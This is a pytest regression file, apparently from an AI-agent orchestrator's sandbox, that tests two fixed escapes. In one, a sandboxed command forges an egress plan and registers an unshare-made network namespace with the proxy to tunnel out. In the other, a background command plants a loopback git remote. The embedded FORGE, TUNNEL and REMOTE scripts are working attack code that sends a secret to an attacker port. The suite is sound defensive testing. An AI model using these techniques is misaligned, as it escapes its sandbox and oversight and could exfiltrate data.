"""redteam3: a sandboxed command cannot register a network namespace of its own with the egress proxy.

As found: without a network namespace of its own (``sandbox.pid_namespace: false``; an abstract socket allowed; a
kernel that refuses one) a command runs in the host's network namespace under the TCP port rules — the proxy's only
test of a registration's sender ("a process in the proxy's own network namespace, which no sandboxed process can be
in") then holds for it. Its egress directory is not hidden (the sockets are bound by relative name, so the kernel's
socket list has no path to cover), and a plan was accepted from *any* directory named ``.orchestration/run/sandbox``
— one in the command's own tmp dir too. So the command wrote a plan allowing its attacker, made a user and network
namespace (``unshare --user --net``), registered it through ``ctl`` with that plan, and from inside reached the attacker
through the ``proxy`` socket: past the port rules, to any host and port.

The proxy now refuses a registration from a process with no_new_privs set or in a Landlock domain (every sandboxed
command has both; the launchers register before they restrict anything). Real launcher, real proxy, real kernel.
"""

from __future__ import annotations

import shutil
import socket
import textwrap
from pathlib import Path

import pytest

from orchestrator import sandbox
from orchestrator.sandbox import landlock
from tests.sandbox.conftest import needs_landlock
from tests.sandbox.test_egress import attacker, policy, received_nothing, run  # noqa: F401 (the fixture)
from tests.sandbox.test_pidns import _can_isolate

pytestmark = [needs_landlock, pytest.mark.skipif(not _can_isolate(), reason="the kernel refuses namespaces here"),
              pytest.mark.skipif(shutil.which("unshare") is None, reason="no unshare(1)")]

#: the attacker's port (argv[2]) through the proxy: its Unix socket (argv[1], once a line is read on stdin: the
#: namespace is registered then) or, given a port, the command's 127.0.0.1:3128
TUNNEL = textwrap.dedent("""\
    import socket, sys
    if sys.argv[1].isdigit():
        s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
    else:
        sys.stdin.readline()
        s = socket.socket(socket.AF_UNIX)
        s.connect(sys.argv[1])
    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n\\r\\n" % sys.argv[2].encode())
    answer = s.recv(200)
    if b" 200 " in answer:
        s.sendall(b"secret")
        print("SENT")
    else:
        print("refused", answer[:80])
""")
#: the attacker: a plan of its own, a namespace of its own registered with it, then the attacker's port through it
FORGE = textwrap.dedent("""\
    import array, hashlib, json, os, socket, subprocess, sys
    port, egress = int(sys.argv[1]), sys.argv[2]
    plans = os.path.join(os.environ.get("TMPDIR", "/tmp"), "x", ".orchestration", "run", "sandbox")
    os.makedirs(plans, exist_ok=True)
    data = json.dumps({"format": 1, "allow": [["127.0.0.1:%d" % port, "forged"]], "deny": []}, sort_keys=True,
                      separators=(",", ":")).encode()
    plan = os.path.join(plans, hashlib.sha256(data).hexdigest()[:16] + ".egress")
    open(plan, "wb").write(data)
    child = subprocess.Popen(["unshare", "--user", "--net", sys.executable, "src/tunnel.py", egress + "/proxy",
                              str(port)], stdin=subprocess.PIPE, text=True)
    nsfd = None
    while nsfd is None:  # until unshare has made the namespace and exec'd python
        if child.poll() is not None:
            sys.exit("no namespace: unshare exited %d" % child.returncode)
        try:
            if os.readlink("/proc/%d/ns/net" % child.pid) != os.readlink("/proc/self/ns/net"):
                nsfd = os.open("/proc/%d/ns/net" % child.pid, os.O_RDONLY)
        except OSError:
            pass
    ctl = socket.socket(socket.AF_UNIX)
    try:
        ctl.connect(egress + "/ctl")
        ctl.sendmsg([b"ORCHEGRESS1 " + plan.encode() + b"\\n"],
                    [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [nsfd]))])
        print("registration:", ctl.recv(200).decode().strip())
    except OSError as exc:
        print("registration:", type(exc).__name__)
    child.communicate("go\\n", timeout=60)
""")


@pytest.mark.parametrize("attacker", [0], indirect=True)
def test_a_command_in_the_hosts_network_namespace_cannot_register_one_of_its_own(
        sws: Path, attacker: socket.socket, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    if landlock.abi() < 4:
        pytest.skip("the port rules this is about need Landlock ABI 4")
    from orchestrator.egress import supervise
    from orchestrator.egress.paths import egress_dir
    from tests.waiting import wait_until

    directory = egress_dir()
    assert supervise.ensure(directory)
    wait_until(lambda: (directory / "ctl").exists() and (directory / "proxy").exists(), what="the egress proxy")
    policy(sws, "pid_namespace: false")  # the host's network namespace, under the port rules
    (sws / "src" / "forge.py").write_text(FORGE)
    (sws / "src" / "tunnel.py").write_text(TUNNEL)
    proc = run(sws, "compiled", f"python3 src/forge.py {attacker.getsockname()[1]} {directory}", monkeypatch)
    assert "SENT" not in proc.stdout, proc.stdout + proc.stderr
    assert "registration: OK" not in proc.stdout, proc.stdout + proc.stderr
    assert received_nothing(attacker)


#: the first command (git mode: it runs code), left running: a remote of its own in .git/config
REMOTE = textwrap.dedent("""\
    import sys
    with open(".git/config", "a") as fh:
        fh.write('[remote "mirror"]\\n\\turl = http://127.0.0.1:%s/x.git\\n' % sys.argv[1])
    print("planted", flush=True)
    sys.stdin.read()
""")


@pytest.mark.parametrize("attacker", [0], indirect=True)
def test_a_remote_a_running_command_adds_widens_no_plan(sws: Path, attacker: socket.socket,  # noqa: F811
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The proxy allows the hosts of the repository's git remotes (the person's configuration, ``.git/config`` a
    governance file) — an address literal exactly, loopback and metadata addresses included. But ``.git/config`` is a
    git-mode command's while it runs: as found, one left running (an agent's background shell) added a remote
    ``http://127.0.0.1:PORT`` and the agent's next command was planned with that address allowed, and reached it —
    a service on the host's loopback (the console, a database), or the cloud metadata address. The plan now takes
    the git dir's remotes only while no git-mode command runs (else the last ones read while none did)."""
    import subprocess

    from orchestrator.engine.pipeline import Governor
    from orchestrator.engine.tools import to_call
    from tests.sandbox.conftest import Host

    port = attacker.getsockname()[1]
    (sws / "src" / "remote.py").write_text(REMOTE)
    (sws / "src" / "tunnel.py").write_text(TUNNEL)
    host = Host(sws)
    first = host.pre(f"python3 src/remote.py {port}", sandbox=True)
    assert first.allowed and "--git" in (sandbox.options_of(first.command) or [])
    holder = subprocess.Popen(["/bin/bash", "-c", first.command], cwd=sws, stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "planted\n", holder.stderr
        second = Governor(sws, approval_channel="deny").pre(
            to_call("Bash", {"command": f"python3 src/tunnel.py 3128 {port}"}, session_id="r", agent="claude-code",
                    cwd=str(sws)), sandbox=True)
        assert second.allowed, second
        done = subprocess.run(["/bin/bash", "-c", second.command], cwd=sws, capture_output=True, text=True,
                              timeout=120)
    finally:
        holder.communicate(input="", timeout=60)
    assert "SENT" not in done.stdout, done.stdout + done.stderr
    assert received_nothing(attacker)
